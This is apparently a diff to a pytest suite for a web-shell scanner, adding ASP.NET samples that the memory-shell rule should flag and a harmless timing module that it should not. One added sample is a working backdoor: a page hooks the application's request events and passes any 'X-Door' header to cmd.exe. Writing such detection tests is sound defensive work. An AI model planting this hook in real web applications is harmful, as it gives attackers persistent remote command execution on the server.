@@ -195,9 +195,33 @@ void Page_Load(object sender, EventArgs e) {
 </script>"""
 
 
+# A handler hooked into the running application's request events from a page: it runs on every
+# later request the application instance serves, in C# and with VB's AddHandler.
+EVENT_HOOK_PAGE = """<%@ Page Language="C#" %>
+<script runat="server">
+void Page_Load(object sender, EventArgs e) {
+    Context.ApplicationInstance.PostAuthenticateRequest += Door;
+}
+static void Door(object s, EventArgs e) {
+    var c = ((HttpApplication)s).Request.Headers["X-Door"];
+    if (c != null) System.Diagnostics.Process.Start("cmd.exe", "/c " + c);
+}
+</script>"""
+EVENT_HOOK_VB = """<%@ Page Language="VB" %>
+<script runat="server">
+Sub Page_Load(sender As Object, e As EventArgs)
+    AddHandler HttpContext.Current.ApplicationInstance.BeginRequest, AddressOf Door
+End Sub
+Shared Sub Door(s As Object, e As EventArgs)
+End Sub
+</script>"""
+
+
 @pytest.mark.parametrize(
     ("name", "code", "words"),
     [
+        ("hook.aspx", EVENT_HOOK_PAGE, ["ApplicationInstance.PostAuthenticateRequest", "from a page"]),
+        ("hook-vb.aspx", EVENT_HOOK_VB, ["ApplicationInstance.BeginRequest", "hooked into the application's requests"]),
         ("route.aspx", ROUTE_INSTALLER_PAGE, ["RouteTable.Routes.Insert", "from a page"]),
         ("remoting.aspx", REMOTING_CHANNEL_PAGE, ["ChannelServices.RegisterChannel", "from a page"]),
         (
@@ -207,7 +231,7 @@ void Page_Load(object sender, EventArgs e) {
         ),
         ("QuietRoute.cs", ROUTE_INSTALLER_CLASS, ["RouteTable.Routes.Insert", "form field 'k'", "Assembly.Load"]),
     ],
-    ids=["route-page", "remoting-page", "vpp-reflection-page", "route-class"],
+    ids=["event-hook-page", "event-hook-vb", "route-page", "remoting-page", "vpp-reflection-page", "route-class"],
 )
 def test_memory_shell_installer(name: str, code: str, words: list[str]) -> None:
     report = assert_found(name, code, "EXH-WS-CODE-MEMORY-SHELL", [])
@@ -251,6 +275,18 @@ void Application_Start(object sender, EventArgs e) {
     System.Runtime.Remoting.RemotingConfiguration.Configure(Server.MapPath("~/remoting.config"), false);
 }
 </script>""",
+    ),
+    (
+        "TimingModule.cs",
+        # A module hooking its application's events in Init, as modules do.
+        """using System.Web;
+public class TimingModule : IHttpModule {
+    public void Init(HttpApplication app) {
+        app.BeginRequest += (s, e) => app.Context.Items["t0"] = System.DateTime.UtcNow;
+        app.EndRequest += (s, e) => app.Response.AppendHeader("X-Elapsed", "1");
+    }
+    public void Dispose() {}
+}""",
     ),
     (
         "ThemeProvider.cs",
